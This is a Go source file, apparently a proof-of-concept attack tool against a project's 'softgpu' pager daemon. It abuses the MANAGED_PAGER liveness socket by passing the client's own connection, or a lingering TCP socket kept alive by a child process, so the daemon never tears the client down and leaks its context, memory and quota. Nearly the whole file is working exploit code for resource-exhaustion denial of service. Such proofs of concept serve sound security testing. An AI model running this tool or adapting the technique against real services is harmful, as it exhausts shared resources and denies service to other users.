// Attack: make the daemon keep the client's own end of its connection.
//
// MANAGED_PAGER's liveness descriptor need only be a socket
// (server/pager.go: managedPager checks S_IFSOCK) and the daemon keeps a
// dup of it until the pager stops (stopPager), which happens only at
// MANAGED_FREE or teardown. Send the client's own end of its connection
// to the node as that socket: the daemon then holds both ends, so when
// the client exits its connection never reads EOF, serve never returns,
// and teardown never runs. The dead client's context, channels, memory
// and quota stay held until the daemon stops.
//
// usage: selflive -node PATH [-n CONNS] [-alloc BYTES]
package main

import (
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"os/exec"
	"time"

	"golang.org/x/sys/unix"

	"softgpu/stage9-chardev/internal/uffd"
	"softgpu/stage9-chardev/uapi"
)

type conn struct {
	sock *net.UnixConn
	fd   int
	seq  uint64
}

func (c *conn) call(arg uapi.Arg, fds []int) ([]int, error) {
	c.seq++
	var oob []byte
	if len(fds) > 0 {
		oob = unix.UnixRights(fds...)
	}
	if _, _, err := c.sock.WriteMsgUnix(uapi.EncodeCall(c.seq, arg), oob, nil); err != nil {
		return nil, err
	}
	buf := make([]byte, uapi.MaxMessage+1)
	rob := make([]byte, unix.CmsgSpace(4*uapi.MaxFDs))
	n, oobn, _, _, err := c.sock.ReadMsgUnix(buf, rob)
	if err != nil {
		return nil, err
	}
	got := uapi.ReceivedFDs(rob[:oobn])
	_, err = uapi.DecodeReply(buf[:n], len(got), arg)
	return got, err
}

func must(what string, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "selflive: %s: %v\n", what, err)
		os.Exit(2)
	}
}

func main() {
	node := flag.String("node", "", "the node")
	n := flag.Int("n", 1, "connections to leave behind")
	allocSize := flag.Uint64("alloc", 1<<20, "device memory to ALLOC on each before leaving")
	live := flag.String("live", "self", "the liveness socket: self (our own connection) or tcp (a TCP socket with SO_LINGER whose peer, kept by a child process, never reads)")
	flag.Parse()
	for i := 0; i < *n; i++ {
		sock, err := net.DialUnix("unixpacket", nil, &net.UnixAddr{Name: *node, Net: "unixpacket"})
		must("dial", err)
		c := &conn{sock: sock}
		raw, _ := sock.SyscallConn()
		raw.Control(func(fd uintptr) { c.fd = int(fd) })
		_, err = c.call(&uapi.Version{Major: uapi.VersionMajor, Minor: uapi.VersionMinor}, nil)
		must("VERSION", err)
		att := &uapi.Attach{}
		_, err = c.call(att, nil)
		must("ATTACH", err)
		if *allocSize > 0 {
			_, err = c.call(&uapi.Alloc{Size: *allocSize}, nil)
			must("ALLOC", err)
		}
		const size = 64 << 10
		memfd, err := unix.MemfdCreate("selflive", unix.MFD_CLOEXEC|unix.MFD_ALLOW_SEALING)
		must("memfd", err)
		must("ftruncate", unix.Ftruncate(memfd, size))
		_, err = unix.FcntlInt(uintptr(memfd), unix.F_ADD_SEALS, unix.F_SEAL_SHRINK|unix.F_SEAL_GROW)
		must("seal", err)
		ma := &uapi.ManagedAlloc{Size: size, Length: size}
		_, err = c.call(ma, []int{memfd})
		must("MANAGED_ALLOC", err)
		mapping, err := unix.Mmap(memfd, 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		must("mmap", err)
		flags := uint64(0)
		ufd, err := uffd.Open(0, uffd.FeatureWPShmem)
		if errors.Is(err, unix.EPERM) {
			flags = uapi.PagerUserModeOnly
			ufd, err = uffd.Open(uffd.UserModeOnly, uffd.FeatureWPShmem)
		}
		must("userfaultfd", err)
		base := uffd.Address(mapping)
		must("UFFDIO_REGISTER", uffd.Register(ufd, base, size, uffd.ModeMissing|uffd.ModeWP))
		// The liveness socket: our own end of the connection to the daemon.
		liveFD := c.fd
		if *live == "tcp" {
			liveFD = lingeringSocket()
		}
		_, err = c.call(&uapi.ManagedPager{VA: ma.VA, Base: base, Length: size, Flags: flags}, []int{ufd, liveFD})
		fmt.Printf("conn %d: context %d, MANAGED_PAGER with our own connection as liveness socket: err=%v\n", i, att.Context, err)
	}
	fmt.Println("exiting")
	os.Exit(0)
}

// lingeringSocket returns a TCP socket with SO_LINGER {on, 3600 s} and
// data queued that its peer never reads; the peer is handed to a child
// process (sleep) that outlives us, so the daemon's close of it, the last
// reference, waits for the linger time.
func lingeringSocket() int {
	ln, err := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)})
	must("listen", err)
	lraw, _ := ln.SyscallConn()
	lraw.Control(func(pfd uintptr) { unix.SetsockoptInt(int(pfd), unix.SOL_SOCKET, unix.SO_RCVBUF, 2048) })
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	must("socket", err)
	unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4096)
	addr := ln.Addr().(*net.TCPAddr)
	must("connect", unix.Connect(fd, &unix.SockaddrInet4{Port: addr.Port, Addr: [4]byte{127, 0, 0, 1}}))
	peer, err := ln.AcceptTCP()
	must("accept", err)
	pf, err := peer.File()
	must("peer file", err)
	child := exec.Command("sleep", "3600")
	child.ExtraFiles = []*os.File{pf}
	must("start the peer's keeper", child.Start())
	peer.Close()
	pf.Close()
	ln.Close()
	unix.SetNonblock(fd, true)
	buf := make([]byte, 65536)
	for quiet := 0; quiet < 20; {
		if _, err := unix.Write(fd, buf); err != nil {
			quiet++
			time.Sleep(10 * time.Millisecond)
			continue
		}
		quiet = 0
	}
	unix.SetNonblock(fd, false)
	must("SO_LINGER", unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 3600}))
	outq, _ := unix.IoctlGetInt(fd, unix.SIOCOUTQ)
	fmt.Fprintf(os.Stderr, "lingering socket: %d bytes unacknowledged; its peer is kept by pid %d\n", outq, child.Process.Pid)
	return fd
}
